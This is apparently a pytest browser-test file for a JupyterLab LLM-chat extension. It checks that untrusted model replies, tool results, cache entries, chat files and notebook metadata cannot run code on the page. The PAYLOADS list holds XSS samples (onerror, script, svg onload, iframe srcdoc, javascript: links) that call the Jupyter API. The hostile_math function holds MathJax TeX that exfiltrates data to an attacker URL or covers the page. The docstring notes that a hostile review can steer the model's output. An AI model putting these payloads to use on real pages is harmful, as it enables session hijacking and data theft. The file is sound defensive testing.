"""Untrusted text never runs in JupyterLab: hostile replies, files and metadata in a real browser.

JupyterLab trusts a live output, so any HTML a reply smuggles into one runs with the user's
Jupyter session. A model can be made to write anything (one hostile review in a ``--map`` column
is enough), and chat files, cache entries and notebooks come from anywhere. Here every payload a
page could run (``<img onerror>``, ``<script>``, ``<svg onload>``, ``<iframe srcdoc>``,
``javascript:`` links, entity-encoded markup, HTML after an unclosed code fence) reaches the page
by every door that shows such text: a streamed reply, a final one, a replayed cache entry, a tool
result's details, the panel's bubbles, ``%ygpt history`` of a loaded chat file, ``%ygpt
provenance`` of a hostile notebook and ``--dry-run``. Each payload would set ``window.__pwned``
and call the Jupyter server's ``/api/``; neither may happen, and every payload must be readable
on the page as text. Math still typesets (MathJax renders the inert HTML's ``$…$``), but only
plain math: TeX that would fetch a URL, draw over the page or link into the Jupyter server is
shown as written, and so is a ``$`` in text that is not math.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from browser.session import opened
from capture import HttpCapture
from conftest import cell, scripted

from ygpt_magic.emulator import start_local_server

pytestmark = pytest.mark.slow

PROMPT = "Summarise the hostile review."
TOOL_PROMPT = "Lookup the review with the lookup tool."
PAYLOADS = [
    '<img src=x onerror="window.__pwned=1;fetch(\'/api/pwned1\')">',
    "<script>window.__pwned=2;fetch('/api/pwned2')</script>",
    '<svg onload="window.__pwned=3;fetch(\'/api/pwned3\')"></svg>',
    '<iframe srcdoc="<script>parent.__pwned=4;fetch(\'/api/pwned4\')</script>"></iframe>',
    "[click me](javascript:window.__pwned=5)",
    '<a href="javascript:window.__pwned=6">six</a>',
    '&lt;img src=x onerror="window.__pwned=7"&gt;',
    "&#60;img src=x onerror=window.__pwned=8&#62;",
]
#: a fence left open: everything after it is code, the markup included
UNCLOSED = "```python\nprint('seven')\n<img src=x onerror=\"window.__pwned=9\">"
REPLY = "\n\n".join(["Energy: $E = mc^2$.", *PAYLOADS, UNCLOSED])
#: what each payload must show as, readable, on the page
SHOWN = ['onerror="window.__pwned=1', "<script>window.__pwned=2", '<svg onload="window.__pwned=3',
         "<iframe srcdoc=", "[click me](javascript:window.__pwned=5)",
         '<a href="javascript:window.__pwned=6">six</a>', 'onerror="window.__pwned=7"',
         "onerror=window.__pwned=8", "window.__pwned=9"]
OUTPUT = ".jp-OutputArea-output"


def hostile_notebook(folder: Path) -> Path:
    """A notebook whose hidden output metadata (what ``%ygpt provenance`` reads) is markup."""
    record = {"model": PAYLOADS[0], "model_version": PAYLOADS[1], "options": {"json": PAYLOADS[2]},
              "usage": {"input_tokens": 1, "completion_tokens": 2}, "status": "FINAL",
              "cached": True, "recorded": PAYLOADS[3]}
    path = folder / "hostile.ipynb"
    path.write_text(json.dumps({"cells": [{"cell_type": "code", "execution_count": 1, "id": "x",
                                           "metadata": {}, "source": "", "outputs": [
                                               {"output_type": "display_data", "data": {"text/plain": ""},
                                                "metadata": {"ygpt": record}}]}],
                                "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    return path


def test_no_door_lets_a_reply_file_or_metadata_run_in_jupyterlab(lab, tmp_path):
    script = tmp_path / "script.json"
    script.write_text(json.dumps({"replies": [{"user": PROMPT, "reply": REPLY}]}), encoding="utf-8")
    hostile_notebook(lab[0].folder)  # beside the story's notebook: the kernel's working folder
    tool = f"def lookup(query: str) -> str:\n    '''Look up a review.'''\n    return {REPLY!r}"
    with start_local_server(scripts=[script]) as server:
        server.faults.latency(0.003)  # the streamed reply arrives in several frames, each rendered
        cells = [
            f"%load_ext ygpt_magic\n%ygpt connect {server.address} --insecure",
            f"%%ygpt\n{PROMPT}",                                   # streamed
            f"%%ygpt --once --no-stream\n{PROMPT}",                # final
            f"%ygpt cache {tmp_path / 'replies.sqlite'}",
            f"%%ygpt --once --no-stream\n{PROMPT}",  # recorded...
            f"%%ygpt --once --no-stream\n{PROMPT}",  # ...and replayed
            tool,
            f"%%ygpt --tools lookup --chat tools\n{TOOL_PROMPT}",  # a tool result's details
            f"%ygpt save {tmp_path / 'chat.json'}\n%ygpt reset --all\n"
            f"%ygpt load {tmp_path / 'chat.json'}\n%ygpt history",
            "%ygpt provenance hostile.ipynb",
            f"%%ygpt --dry-run --once\n{PAYLOADS[0]} {PAYLOADS[3]}",
            "%ygpt panel",
        ]
        with opened(*lab, "doors.ipynb", cells) as page:
            requests: list[str] = []
            page.on("request", lambda request: requests.append(request.url))
            panel = page.locator(".ygpt-panel")
            panel.wait_for(timeout=90_000)  # every cell above ran
            box = panel.locator(".ygpt-input textarea")
            box.fill(PAYLOADS[0] + " " + PAYLOADS[1])  # the user's own bubble
            box.press("Enter")
            panel.locator(".ygpt-totals", has_text="2 turns").wait_for()
            cell = page.locator(".jp-Notebook .jp-Cell")
            outputs = [cell.nth(index).locator(OUTPUT) for index in range(len(cells))]
            outputs[1].filter(has_text="window.__pwned=9").wait_for()
            page.wait_for_timeout(1000)  # every output drawn, MathJax done

            assert page.evaluate("window.__pwned") is None, "a payload ran"
            assert not [url for url in requests if "pwned" in url], "a payload called the server"
            markup = page.locator(f"{OUTPUT} img, {OUTPUT} script, {OUTPUT} svg, {OUTPUT} iframe, "
                                  f"{OUTPUT} a[href^='javascript'], {OUTPUT} a:not([href])")
            assert markup.count() == 0, [markup.nth(i).evaluate("e => e.outerHTML")
                                         for i in range(markup.count())]
            for door, index in [("streamed", 1), ("final", 2), ("replayed", 5), ("tool", 7),
                                ("history", 8)]:
                text = outputs[index].all_inner_texts()
                if door == "tool":  # the result is folded under its call's line
                    cell.nth(index).locator("summary").first.click()
                    text = outputs[index].all_inner_texts()
                missing = [shown for shown in SHOWN if shown not in "\n".join(text)]
                assert not missing, f"{door}: not readable as text: {missing}"
            assert "replayed" in " ".join(outputs[5].all_inner_texts()) or \
                "cached" in " ".join(outputs[5].all_inner_texts())
            provenance = "\n".join(outputs[9].all_inner_texts())
            assert PAYLOADS[0] in provenance and PAYLOADS[1] in provenance, provenance
            dry_run = "\n".join(outputs[10].all_inner_texts())  # the messages as JSON, quotes escaped
            assert json.dumps(PAYLOADS[3])[1:-1] in dry_run, dry_run
            bubbles = "\n".join(panel.locator(".ygpt-bubble").all_inner_texts())
            assert PAYLOADS[0] in bubbles and "window.__pwned=9" in bubbles, bubbles
            assert outputs[1].locator("mjx-container").count() >= 1, "math is typeset"


MATH_PROMPT = "Summarise the review with formulas."
#: plain math: each typesets
PLAIN_MATH = [r"$E = mc^2$", r"$\frac{a}{b}$", r"$$\sum_{i=1}^{n} i$$",
              r"$$\begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}$$"]


def hostile_math(attacker: str) -> list[str]:
    """TeX that MathJax's safe extension lets through: a zero-click fetch and a full-window box
    (``\\unicode``'s font goes into a style as written), a link into the Jupyter server, and the
    fetch again in ``$ … $``, which is text to Markdown (a space after ``$``) but math to MathJax."""
    fetch = rf"\unicode[x; background-image:url({attacker}/leak?d=the-secret-plan)]{{x41}}"
    return [f"${fetch}$",
            r"$\unicode[x; position:fixed; top:0; left:0; width:100vw; height:100vh; z-index:99999]{x42}$",
            r"$\href{/api/contents}{see the file}$", rf"\({fetch}\)", f"$ {fetch} $"]


def test_tex_in_a_reply_fetches_nothing_covers_nothing_and_links_nowhere(lab, tmp_path):
    with HttpCapture() as attacker:  # another server: the page must never call it by itself
        hostile = hostile_math(attacker.url)
        reply = "\n\n".join(["The customer is happy.", *PLAIN_MATH, *hostile, "It costs $5 and $10."])
        script = tmp_path / "script.json"
        script.write_text(json.dumps({"replies": [{"user": MATH_PROMPT, "reply": reply}]}), encoding="utf-8")
        with start_local_server(scripts=[script]) as server:
            cells = [f"%load_ext ygpt_magic\n%ygpt connect {server.address} --insecure",
                     f"%%ygpt --once\n{MATH_PROMPT}"]
            with opened(*lab, "math.ipynb", cells) as page:
                output = page.locator(".jp-Notebook .jp-Cell").nth(1).locator(OUTPUT)
                output.filter(has_text="It costs").first.wait_for(timeout=60_000)
                output.locator("mjx-container").nth(len(PLAIN_MATH) - 1).wait_for()
                page.wait_for_timeout(2000)  # MathJax done, any fetch made
                shown = "\n".join(output.all_inner_texts())
                styles = output.locator("mjx-container [style]").evaluate_all(
                    "found => found.map(e => e.getAttribute('style'))")
                links = output.locator("a[href]").evaluate_all("found => found.map(a => a.getAttribute('href'))")
                typeset = output.locator("mjx-container").count()
        assert not attacker.seen, f"the page called another server by itself: {attacker.seen}"
        assert not [style for style in styles if "url(" in style or "fixed" in style], styles
        assert links == [], "no link, into the Jupyter server or anywhere"
        assert typeset == len(PLAIN_MATH), "the plain math is typeset, the rest is not"
        for written in [r"\unicode[x; background-image:url(", r"\unicode[x; position:fixed",
                        r"\href{/api/contents}{see the file}", "It costs $5 and $10."]:
            assert written in shown, f"not readable as written: {written}"


def preview_markdown_files(folder: Path) -> None:
    """JupyterLab's setting that opens a ``.md`` file in its Markdown Preview, not its editor."""
    settings = folder / ".jupyter-home" / "lab-settings" / "@jupyterlab" / "docmanager-extension"
    settings.mkdir(parents=True, exist_ok=True)
    (settings / "plugin.jupyterlab-settings").write_text(
        json.dumps({"defaultViewers": {"markdown": "Markdown Preview"}}))


def test_an_exported_transcript_typesets_nothing_hidden_in_a_code_span(lab, shell, tmp_path):
    """findings/redteam3.md 2: JupyterLab's removeMath reads ``\\\\(`` … ``\\\\)`` in the Markdown
    source across a code span, so the ``\\unicode`` inside the span was typeset and fetched."""
    jupyterlab, context = lab
    with HttpCapture() as attacker:
        fetch = rf"\unicode[x; background-image:url({attacker.url}/leak?d=the-secret-plan)]{{x41}}"
        reply = "\n\n".join([f"The formula is \\\\( a `{fetch}` \\\\)",
                              f"- in a list: \\\\[ `{fetch}` \\\\]", f"A `\\begin{{x}}` and `{fetch}` `\\end{{x}}`"])
        with scripted(shell, tmp_path, "Explain the formula", reply):
            cell(shell, "%%ygpt\nExplain the formula")
            cell(shell, f"%ygpt export {jupyterlab.folder / 'exported-chat.md'}")
        preview_markdown_files(jupyterlab.folder)  # read by the server when the page asks for settings
        page = context.new_page()
        try:
            page.goto(jupyterlab.url("exported-chat.md"))
            preview = page.locator(".jp-RenderedMarkdown").filter(has_text="The formula is")
            preview.wait_for(timeout=60_000)
            page.wait_for_timeout(3000)  # MathJax done, any fetch made
            shown = "\n".join(preview.all_inner_texts())
            typeset = preview.locator("mjx-container").count()
        finally:
            page.close()
    assert not attacker.seen, f"the preview called another server by itself: {attacker.seen}"
    assert typeset == 0, "nothing in the transcript is math"
    assert fetch in shown, "the code is readable as written"
